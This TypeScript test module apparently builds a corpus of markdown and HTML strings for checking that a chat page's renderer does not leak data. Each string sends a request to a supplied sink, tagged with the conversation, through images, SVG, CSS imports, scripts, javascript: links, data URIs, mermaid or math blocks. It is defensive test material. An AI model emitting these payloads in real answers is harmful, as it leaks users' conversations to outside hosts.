/**
 * What an answer may hold that would make a careless page send something: each names the sink.
 *
 * @module
 */
export function exfiltrationCorpus(sink: string): readonly string[] {
  const at = (name: string) => `${sink}/${name}?q=the+conversation`;
  return [
    `![](${at("image")})`,
    `![a](<${at("image-angle")}> "title")`,
    `![ref][pixel]\n\n[pixel]: ${at("image-reference")}`,
    `[![](${at("image-in-link")})](${at("link-around-image")})`,
    `<img src="${at("html-image")}">`,
    `<img src=x onerror="fetch('${at("html-onerror")}')">`,
    `<picture><source srcset="${at("html-srcset")}"><img src="${at("html-picture")}"></picture>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${at("svg-image")}"/></svg>`,
    `<svg><use href="${at("svg-use")}#x"/></svg>`,
    `<svg><style>@import url("${at("svg-style")}");</style></svg>`,
    `<style>@import url("${at("css-import")}"); body { background: url("${at("css-background")}") }</style>`,
    `<p style="background-image: url('${at("css-inline")}')">text</p>`,
    `<link rel="stylesheet" href="${at("link-stylesheet")}">`,
    `<link rel="preload" as="image" href="${at("link-preload")}"><link rel="prefetch" href="${at("link-prefetch")}">`,
    `<link rel="dns-prefetch" href="${sink}"><link rel="preconnect" href="${sink}">`,
    `<iframe src="${at("frame")}"></iframe>`,
    `<object data="${at("object")}"></object><embed src="${at("embed")}">`,
    `<video src="${at("video")}" poster="${at("poster")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>`,
    `<video><track default src="${at("track")}"></video>`,
    `<input type="image" src="${at("input-image")}">`,
    `<body background="${at("body-background")}"><table background="${at("table-background")}"><tr><td>x</td></tr></table>`,
    `<form action="${at("form")}"><button autofocus>send</button></form>`,
    `<script src="${at("script")}"></script><script>fetch("${at("script-fetch")}")</script>`,
    `<meta http-equiv="refresh" content="0;url=${at("meta-refresh")}">`,
    `<base href="${sink}/">`,
    `<a href="${at("anchor")}" ping="${at("ping")}">click</a>`,
    `[link](${at("link")})`,
    `<${at("autolink")}>`,
    `bare ${at("bare-autolink")} and www.example.invalid/x`,
    `[a](javascript:fetch('${at("javascript")}'))`,
    `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='${at("data-svg")}'/%3E%3C/svg%3E)`,
    `[x](data:text/html,<script>fetch('${at("data-html")}')</script>)`,
    `\`\`\`mermaid\ngraph TD; a["<img src='${at("mermaid")}'>"] --> b; click a "${at("mermaid-click")}"\n\`\`\``,
    `$$\\includegraphics{${at("math")}} \\href{${at("math-href")}}{x}$$`,
    `\`\`\`html\n<img src="${at("code")}">\n\`\`\``,
    `| a | b |\n|---|---|\n| ![](${at("table-image")}) | <img src="${at("table-html")}"> |`,
    `[^1]\n\n[^1]: ![](${at("footnote")})`,
    `- [ ] ![](${at("task-image")})`,
    `> ![](${at("quote-image")})`,
    `# ![](${at("heading-image")})`,
  ];
}
